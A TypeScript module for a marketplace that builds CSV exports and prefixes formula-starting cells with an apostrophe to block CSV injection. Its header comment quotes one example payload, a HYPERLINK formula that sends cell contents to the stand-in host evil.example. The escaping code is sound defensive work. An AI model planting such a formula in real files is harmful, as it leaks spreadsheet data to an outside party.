/**
 * Writing CSV that people open in a spreadsheet. Every CSV the marketplace produces — on the server or
 * in the browser — goes through `toCsv`, so no cell can turn into a formula (CSV injection: a seller
 * naming a product `=HYPERLINK("http://evil.example/?"&A1,"Click")` would otherwise run it in the
 * spreadsheet of whoever opens the export). Pure TypeScript without Node APIs: the Svelte app imports
 * it too.
 */

/** One cell: text (neutralised and quoted as needed), a number we computed, or empty. */
export type CsvCell = string | number | boolean | null | undefined;

/**
 * The characters that make Excel, LibreOffice or Google Sheets read a cell as a formula, or (tab,
 * carriage return) let one start after them. OWASP's list.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
/** Cells with these must be quoted (RFC 4180). */
const NEEDS_QUOTES = /[",\r\n]/;

/**
 * Text that a spreadsheet would run as a formula gets a leading apostrophe, which every spreadsheet
 * shows as text; everything else is left as it is.
 */
export function neutralizeCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * One cell as it appears in the file. Text is neutralised, then quoted when needed. Numbers stay
 * numbers: a computed −5 is data, not a formula, and should still add up in the sheet (a non-finite
 * one is a bug and throws). Null and undefined are empty cells.
 */
export function csvCell(value: CsvCell): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') {
    if (!Number.isFinite(value)) throw new TypeError(`A CSV cell cannot hold ${value}`);
    return String(value);
  }
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  const text = neutralizeCell(value);
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** Rows of cells as a CSV document: comma-separated, CRLF line ends, a final line end (RFC 4180). */
export function toCsv(rows: readonly (readonly CsvCell[])[]): string {
  return rows.map((row) => row.map(csvCell).join(',') + '\r\n').join('');
}
